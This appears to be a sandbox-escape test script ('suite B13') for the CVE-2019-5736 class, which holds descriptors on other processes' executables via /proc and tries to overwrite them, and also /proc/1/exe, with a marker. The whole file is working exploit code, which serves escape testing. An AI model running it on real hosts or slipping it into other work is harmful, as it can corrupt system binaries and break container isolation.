"""Escape suite B13 (CVE-2019-5736 class) inside a sandbox: for SECONDS, hold an O_PATH
descriptor on the executable of every other visible process, and try to reopen each one for
writing (immediately, where ETXTBSY is expected, and again after its process has exited).
Prints exe_write=<errno or ok> per distinct failure and wrote=<path> on success."""
import os
import sys
import time

held = {}
results = set()
deadline = time.time() + float(sys.argv[1])
me = os.getpid()
while time.time() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me or p in held:
            continue
        try:
            held[p] = (os.open(f"/proc/{p}/exe", os.O_PATH), os.readlink(f"/proc/{p}/exe"))
        except OSError as e:
            results.add(f"exe_open={e.errno}")
    for p, (fd, target) in list(held.items()):
        try:
            w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
            os.write(w, b"#pwned-by-b13\n")
            os.close(w)
            print(f"wrote={target}", flush=True)
            del held[p]
        except OSError as e:
            results.add(f"exe_write={os.strerror(e.errno)}")
    time.sleep(0.02)
try:
    with open("/proc/1/exe", "wb") as f:
        f.write(b"x")
    results.add("pid1_write=ok")
except OSError as e:
    results.add(f"pid1_write={os.strerror(e.errno)}")
print("watched=" + str(len(held)))
for r in sorted(results):
    print(r)
